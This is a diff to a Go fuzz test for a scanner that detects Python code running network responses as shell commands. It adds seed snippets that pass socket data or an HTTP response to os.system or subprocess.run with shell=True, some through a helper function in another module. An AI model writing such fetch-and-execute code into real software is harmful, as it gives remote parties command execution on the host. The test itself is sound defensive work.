@@ -9,8 +9,9 @@ import (
 // imports, stops the readers of a server's answer run in a shell and of
 // the files a script writes (with items, decoder wrappers, accessor
 // chains, argument lists, mkstemp descriptors, bare formattings, a
-// shell's stdin pipe and the loops around it), and every finding's line
-// is inside the script.
+// shell's stdin pipe and the loops around it, functions of the script or
+// the module that run a parameter), and every finding's line is inside
+// the script.
 func FuzzScanPyShellAnswer(f *testing.F) {
 	for _, s := range []string{
 		"import os, urllib.request\nos.system(urllib.request.urlopen(u).read().decode())\n",
@@ -27,6 +28,15 @@ func FuzzScanPyShellAnswer(f *testing.F) {
 		strings.Repeat("(", 200) + "urlopen(u)",
 	} {
 		f.Add(s, "import urllib.request\ndef get(n):\n    return urllib.request.urlopen(n).read()\n")
+	}
+	// a module function that runs its parameter, called with what a socket sends
+	for _, p := range [][2]string{
+		{"import socket\nfrom . import m\ns = socket.create_connection(a)\nfor line in s.makefile():\n    m.dispatch(line)\n", "import subprocess\ndef dispatch(command):\n    return subprocess.run(command, shell=True)\n"},
+		{"from .m import run\nwhile True:\n    run(cmd=requests.get(u).text)\n", "import os\ndef _sh(c):\n    os.system(c)\ndef run(*, cmd, /, **kw):\n    _sh(cmd)\n"},
+		{"class A:\n    def x(self, c):\n        os.system(c)\n    def y(self, s):\n        self.x(s.recv(9))\n        self.y(*s)\n", "def dispatch(self"},
+		{"m.dispatch(urlopen(u).read())\ndef dispatch(", "def dispatch(a, b=(1, 2), *c):\n    subprocess.run(['sh', '-c', b])\n"},
+	} {
+		f.Add(p[0], p[1])
 	}
 	f.Fuzz(func(t *testing.T, code, mod string) {
 		sc := scanCtx(code)
